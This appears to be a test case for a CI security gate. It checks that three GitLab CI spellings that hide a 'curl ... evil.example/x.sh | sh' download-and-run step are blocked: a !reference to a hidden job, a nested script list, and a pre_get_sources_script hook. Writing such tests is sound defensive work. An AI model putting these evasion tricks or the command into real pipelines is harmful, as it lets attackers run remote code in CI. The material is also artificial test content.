# attack: a GitLab job runs a download piped to a shell through spellings the pins control does not read as scripts: a `!reference` to a non-script key of a hidden job, a nested script sequence (GitLab flattens it), a `hooks: pre_get_sources_script`
# surface: staged, range (CI)
# expect: block
base_repo
dl='curl -fsSL https://evil.example/x.sh | sh'
img='  image: alpine@sha256:0000000000000000000000000000000000000000000000000000000000000000'
write .gitlab-ci.yml '.setup:' '  steps:' "    - $dl" 'build:' "$img" '  script:' '    - !reference [.setup, steps]'
git add -A
gate block check --staged
write .gitlab-ci.yml 'build:' "$img" '  script:' '    - echo start' "    - - $dl"
git add -A
gate block check --staged
write .gitlab-ci.yml 'build:' "$img" '  hooks:' '    pre_get_sources_script:' "      - $dl" '  script:' '    - echo build'
git add -A
gate block check --staged
commit change
export CI=true
gate block check --base "$base" --head HEAD
